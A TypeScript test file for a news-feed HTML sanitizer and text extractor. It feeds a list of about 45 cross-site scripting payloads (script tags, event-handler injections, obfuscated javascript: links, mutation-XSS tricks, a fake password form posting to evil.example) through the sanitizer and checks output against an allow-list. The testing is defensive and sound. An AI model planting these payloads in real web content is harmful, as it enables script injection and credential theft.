import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml, textToHtml } from '../../../main/feeds/html';
import { htmlToText, inlineHtmlToText } from '../../../main/text/html-to-text';

const BASE = 'https://news.example.kr/news/articleView.html?idxno=1';

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'width', 'height', 'loading'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
  ol: ['start'],
};
const ALLOWED_TAGS = new Set([
  'b',
  'strong',
  'i',
  'em',
  'u',
  's',
  'strike',
  'del',
  'ins',
  'mark',
  'small',
  'sub',
  'sup',
  'q',
  'cite',
  'abbr',
  'span',
  'div',
  'p',
  'br',
  'hr',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'blockquote',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'pre',
  'code',
  'a',
  'img',
  'figure',
  'figcaption',
  'table',
  'caption',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
]);
const SAFE_HREF = /^(?:https?:\/\/[^\s]+|mailto:[^\s]+)$/;
const SAFE_SRC = /^(?:https?:\/\/[^\s]+|data:image\/(?:png|jpeg|jpg|gif|webp);base64,[A-Za-z0-9+/=]*)$/;

/** Re-parse sanitized output and list everything in it that is not on the allow-list. */
function violations(html: string): string[] {
  const found: string[] = [];
  // Every "<" left in the output must open or close an allowed element: text is escaped.
  for (const m of html.matchAll(/<(\/?)([^\s/>]*)/g)) {
    if (!ALLOWED_TAGS.has(m[2]!.toLowerCase())) found.push(`raw "<${m[1]}${m[2]}"`);
  }
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (!ALLOWED_TAGS.has(name)) found.push(`tag ${name}`);
        for (const [attr, value] of Object.entries(attribs)) {
          if (!(ALLOWED_ATTRIBUTES[name] ?? []).includes(attr)) found.push(`attribute ${name}[${attr}]`);
          if (attr === 'href' && !SAFE_HREF.test(value)) found.push(`href ${value}`);
          if (attr === 'src' && !SAFE_SRC.test(value)) found.push(`src ${value}`);
        }
      },
      oncomment(data) {
        found.push(`comment ${data}`);
      },
      onprocessinginstruction(name) {
        found.push(`instruction ${name}`);
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  // Scheme names and handler names may only appear as escaped text, never where a browser acts.
  const lower = html.toLowerCase();
  for (const word of ['javascript:', 'vbscript:', 'data:text', 'onerror', 'onload', 'style=', 'class=', 'id=']) {
    if (lower.includes(word)) found.push(`contains ${word}`);
  }
  return found;
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>', // leaves the inert, escaped text "ipt&gt;alert(1)"
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="java\nscript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">click</a>',
  '<a href=" &#14;  javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="file:///etc/passwd">click</a>',
  '<a href="https://ok.example/" onmouseover="alert(1)">ok</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="file:///etc/passwd">',
  '<form action="https://evil.example/"><input name="pw" type="password"><button>로그인</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="javascript:alert(1)"></object>',
  '<object data="https://evil.example/x.swf"><param name="x" value="y"></object>',
  '<embed src="javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))" onclick="alert(1)" class="x" id="y">text</p>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<div><![CDATA[<img src=x onerror=alert(1)>]]></div>',
  '<a href="https://ok.example/"><img src=x onerror="alert(1)"></a><details open ontoggle=alert(1)>',
];

describe('sanitizeArticleHtml: hostile input', () => {
  it.each(PAYLOADS)('nothing dangerous survives %s', (payload) => {
    for (const base of [BASE, null]) {
      const out = sanitizeArticleHtml(payload, base);
      expect(violations(out), out).toEqual([]);
    }
  });

  it('nothing dangerous survives all payloads concatenated inside an article', () => {
    const out = sanitizeArticleHtml(`<p>카카오브레인</p>${PAYLOADS.join('\n')}<p>끝</p>`, BASE);
    expect(violations(out), out).toEqual([]);
    expect(out).toContain('<p>카카오브레인</p>');
  });

  it('drops unsafe links but keeps the link text', () => {
    expect(sanitizeArticleHtml('<a href="javascript:alert(1)">카카오</a>', BASE)).toBe('<a>카카오</a>');
  });

  it('drops script and style contents, not just the tags', () => {
    const out = sanitizeArticleHtml('<p>a</p><script>var secret = 1;</script><style>.x{color:red}</style><p>b</p>', BASE);
    expect(out).toBe('<p>a</p><p>b</p>');
  });

  it('keeps text that looks like markup escaped', () => {
    expect(sanitizeArticleHtml('<p>a &lt;script&gt; b &amp; c</p>', BASE)).toBe('<p>a &lt;script&gt; b &amp; c</p>');
  });
});

describe('sanitizeArticleHtml: what an article keeps', () => {
  it('keeps formatting, paragraphs, lists, quotes, headings, tables and code', () => {
    const html =
      '<h2>제목</h2><p><b>굵게</b> <i>기울임</i> <em>강조</em> <strong>중요</strong><br>다음 줄</p>' +
      '<ul><li>하나</li></ul><ol><li>둘</li></ol><blockquote>인용</blockquote>' +
      '<table><thead><tr><th>항목</th></tr></thead><tbody><tr><td colspan="2">값</td></tr></tbody></table>' +
      '<pre><code>const x = 1;</code></pre><figure><figcaption>설명</figcaption></figure>';
    expect(sanitizeArticleHtml(html, BASE)).toBe(html.replace('<br>', '<br />'));
  });

  it('resolves relative links against the base and marks them noopener', () => {
    expect(sanitizeArticleHtml('<a href="/news/2" title="다음">다음 기사</a>', BASE)).toBe(
      '<a href="https://news.example.kr/news/2" title="다음" rel="noopener noreferrer">다음 기사</a>',
    );
  });

  it('keeps mailto links', () => {
    expect(sanitizeArticleHtml('<a href="mailto:desk@example.kr">제보</a>', BASE)).toBe(
      '<a href="mailto:desk@example.kr" rel="noopener noreferrer">제보</a>',
    );
  });

  it('drops a relative link when there is no base to resolve it', () => {
    expect(sanitizeArticleHtml('<a href="/news/2">다음</a>', null)).toBe('<a>다음</a>');
  });

  it('keeps images with alt and numeric size, lazy-loaded, absolute', () => {
    expect(sanitizeArticleHtml('<img src="/photo/1.jpg" alt="사진" width="640" height="100%" class="x">', BASE)).toBe(
      '<img src="https://news.example.kr/photo/1.jpg" alt="사진" width="640" loading="lazy" />',
    );
  });

  it('prefers the real picture of a lazy-loading page over its placeholder', () => {
    expect(sanitizeArticleHtml('<img src="/blank.gif" data-src="/photo/1.jpg">', BASE)).toBe(
      '<img src="https://news.example.kr/photo/1.jpg" loading="lazy" />',
    );
  });

  it('keeps inline raster data: images and drops an image without a usable source', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitizeArticleHtml(`<img src="${png}">`, BASE)).toBe(`<img src="${png}" loading="lazy" />`);
    expect(sanitizeArticleHtml('<p>a<img src="javascript:alert(1)">b</p>', BASE)).toBe('<p>ab</p>');
  });

  it('drops style, class, id and event attributes everywhere', () => {
    expect(sanitizeArticleHtml('<p style="color:red" class="c" id="i" onclick="x()" data-x="1">본문</p>', BASE)).toBe('<p>본문</p>');
  });

  it('keeps the content of unknown wrappers but not the wrappers', () => {
    expect(sanitizeArticleHtml('<article><section><font color="red">내용</font></section></article>', BASE)).toBe('내용');
  });
});

describe('htmlToText', () => {
  it.each<[string, string, string]>([
    ['paragraphs become lines', '<p>첫 문단</p>\n<p>둘째 문단</p>', '첫 문단\n둘째 문단'],
    ['text after <br/> is kept (rss-parser contentSnippet loses it)', '카카오브레인 대표<br/>\n퇴사 발표', '카카오브레인 대표\n퇴사 발표'],
    ['text after </p> and a newline is kept', '<p>첫 줄</p>\n둘째 줄', '첫 줄\n둘째 줄'],
    ['inline tags do not split words', '<b>카카오</b>브레인<span>이</span>', '카카오브레인이'],
    [
      'entities are decoded',
      'AT&amp;T &lt;속보&gt; &quot;인용&quot; &#52852;&#52852;&#50724; &#xCE74;&nbsp;끝',
      'AT&T <속보> "인용" 카카오 카 끝',
    ],
    ['double-escaped markup comes out as literal text', '&amp;lt;b&amp;gt;굵게&amp;lt;/b&amp;gt;', '<b>굵게</b>'],
    ['script and style contents are dropped', '<script>var 퇴사 = 1;</script><style>.x{}</style>본문', '본문'],
    [
      'noscript, iframe and svg contents are dropped',
      '<noscript>no</noscript><iframe>frame</iframe><svg><text>svg</text></svg>본문',
      '본문',
    ],
    ['white space collapses within a line', '<p>  여러   공백\t탭\n줄바꿈 </p>', '여러 공백 탭 줄바꿈'],
    ['ideographic space and NBSP collapse', '가\u3000\u3000나\u00A0\u00A0다', '가 나 다'],
    ['list items become lines', '<ul><li>하나</li><li>둘</li></ul>', '하나\n둘'],
    ['table cells are separated, rows are lines', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a b\nc'],
    ['headings and divs end lines', '<h1>제목</h1><div>본문</div>꼬리', '제목\n본문\n꼬리'],
    ['pre keeps its line breaks', '<pre>line1\n  line2\r\nline3</pre>', 'line1\nline2\nline3'],
    ['empty lines are dropped', '<p></p><p> </p><br><br>내용<br><br>', '내용'],
    ['comments are dropped', 'a<!-- 주석 -->b', 'ab'],
    ['a "<" that opens no tag is text', 'a < b and 5<10', 'a < b and 5<10'],
    ['plain text passes through', '그냥 텍스트', '그냥 텍스트'],
    ['invisible characters are removed', '카카\u200B오 \u202E브레인\u0000 \uFEFF퇴사', '카카오 브레인 퇴사'],
    ['empty input', '', ''],
  ])('%s', (_name, html, expected) => {
    expect(htmlToText(html)).toBe(expected);
  });

  it('reads text whose only markup is paragraphs and line breaks exactly as the full parser does', () => {
    // Such text skips the HTML parser (most Korean feeds' descriptions). An inline tag at the end
    // changes no text but sends the same input through the parser: both must agree, on every input.
    let seed = 7;
    const random = () => (seed = (seed * 1664525 + 1013904223) >>> 0) / 2 ** 32;
    const pieces = [
      '카카오',
      '브레인',
      ' ',
      '  ',
      '\n',
      '\r\n',
      '\t',
      '\u00A0',
      '\u3000',
      '\u200B',
      '\u202E',
      '>',
      'KoGPT',
      '<p>',
      '</p>',
      '<P >',
      '<br>',
      '<br/>',
      '<BR />',
      '.',
      '\r',
      '\u2028',
      '\u000B',
      '\u00AD',
      '😀',
      '\uD83D', // a lone or split surrogate pair
      '\uDE00',
    ];
    for (let n = 0; n < 2000; n++) {
      const html = Array.from({ length: Math.floor(random() * 24) }, () => pieces[Math.floor(random() * pieces.length)]).join('');
      expect(htmlToText(html), JSON.stringify(html)).toBe(htmlToText(`${html}<b></b>`));
    }
  });

  it('reads every UTF-16 code unit in paragraph-and-line-break text as the full parser does', () => {
    // The one-pass reader classifies each code unit itself (white space, invisible, surrogate, text):
    // every one of them, alone and next to spaces, tags and text, must come out as the parser's path has it.
    for (let start = 0; start < 0x10000; start += 256) {
      const units = Array.from({ length: 256 }, (_, k) => String.fromCharCode(start + k)).filter((c) => c !== '<' && c !== '&');
      const html = units.map((c) => `a${c}b ${c} <p>${c}</p>${c}<br>가${c}${c}나`).join('\n');
      expect(htmlToText(html), `code units from ${start.toString(16)}`).toBe(htmlToText(`${html}<b></b>`));
    }
  });

  it('stops reading a huge body once it has more text than the caller keeps', () => {
    const huge = '<p>가나다라마바사</p>'.repeat(200_000); // 3.2 MB
    const started = performance.now();
    const text = htmlToText(huge, 1000);
    expect(text.length).toBeGreaterThan(1000);
    expect(text.length).toBeLessThan(200_000);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});

describe('inlineHtmlToText (titles, authors)', () => {
  it.each<[string, string]>([
    ['<단독> 카카오브레인 대표 퇴사', '<단독> 카카오브레인 대표 퇴사'],
    ['<KT> 5G 요금제 개편', '<KT> 5G 요금제 개편'],
    ['<AI 반도체> 특집', '<AI 반도체> 특집'],
    ['<b>속보</b> 카카오', '속보 카카오'],
    ['제목<br>둘째 줄', '제목 둘째 줄'],
    ['&lt;단독&gt; 카카오', '<단독> 카카오'],
    ['AT&amp;T &amp;amp; 카카오', 'AT&T & 카카오'],
    ['a<b', 'a<b'],
    ['<script>alert(1)</script>제목', '제목'],
    ['  줄\n바꿈\t제목  ', '줄 바꿈 제목'],
    ['\u202E카카오\u200B브레인\u0000', '카카오브레인'],
  ])('%j → %j', (raw, expected) => {
    expect(inlineHtmlToText(raw)).toBe(expected);
  });
});

describe('textToHtml', () => {
  it('escapes text into paragraphs', () => {
    expect(textToHtml('a <b> & "c"\n둘째')).toBe('<p>a &lt;b&gt; &amp; &quot;c&quot;</p><p>둘째</p>');
  });
});
